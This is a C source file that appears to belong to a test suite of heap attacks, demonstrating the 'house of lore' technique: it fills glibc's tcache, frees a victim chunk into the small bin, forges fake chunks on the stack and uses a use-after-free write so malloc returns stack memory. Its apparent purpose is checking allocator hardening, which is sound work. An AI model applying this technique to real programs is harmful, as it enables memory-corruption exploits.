/* house_of_lore: corrupt the links of a freed chunk so that they lead to a
 * chain of fake chunks on the stack, and make malloc() hand one out.
 *
 * Goal: malloc() returns a block inside the fake chunks in main()'s stack
 * frame.
 *
 * Seven blocks of 248 bytes are freed first (in glibc they fill the
 * per-thread cache of that size), then the victim V (248 bytes, between two
 * live blocks); a big malloc follows (glibc then files V in its small bin).
 * The seven are taken again. On the stack the attacker builds eight fake
 * chunks, each with a header copied from V's (the size word, and the next
 * word: slz's check word, glibc's size) and links: the first's forward link
 * points at V's chunk, each one's backward link at the next fake. A
 * use-after-free write puts the first fake's address into V's first two
 * words (its forward and backward links in glibc). Then three mallocs of
 * 248 bytes: the first takes V back, the next follow the links.
 *   house_of_lore   (no arguments)
 */
#include "attacks.h"

#define SLOT 64 /* words between two fakes: room for glibc's write past each */

int main(void)
{
    uintptr_t fakes[9 * SLOT] __attribute__((aligned(16)));
    char *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = opaque(malloc(248));
    char *sep = opaque(malloc(40)), *v = opaque(malloc(248)), *hi = opaque(malloc(40));
    enum atk_layout l = need_layout(sep, v);
    uintptr_t hdr0 = ((uintptr_t *)v)[-2], hdr1 = ((uintptr_t *)v)[-1]; /* read below V */
    for (int i = 0; i < 7; i++)
        free(fill[i]);
    free(v);
    char *big = opaque(malloc(1500));
    for (int i = 0; i < 7; i++)
        fill[i] = opaque(malloc(248));
    memset(fakes, 0, sizeof fakes);
    for (int i = 0; i < 9; i++) {
        uintptr_t *f = &fakes[i * SLOT];
        f[0] = l == LAYOUT_SLZ ? hdr0 : 0;
        f[1] = hdr1;
        f[2] = i == 0 ? (uintptr_t)chunk_of(v) : (uintptr_t)&fakes[(i - 1) * SLOT];
        f[3] = (uintptr_t)&fakes[(i < 8 ? i + 1 : i) * SLOT];
    }
    uintptr_t *vw = opaque(v);
    vw[0] = (uintptr_t)&fakes[0]; /* use after free */
    vw[1] = (uintptr_t)&fakes[0];
    for (int i = 0; i < 3; i++) {
        char *p = opaque(malloc(248));
        if (p && overlap(p, 248, fakes, sizeof fakes))
            reached("malloc(248) number %d returned %p, inside the fake chunks on the stack at %p", i + 1,
                    (void *)p, (void *)fakes);
    }
    opaque(big), opaque(hi);
    not_reached("no malloc returned a fake chunk on the stack (%p)", (void *)fakes);
}
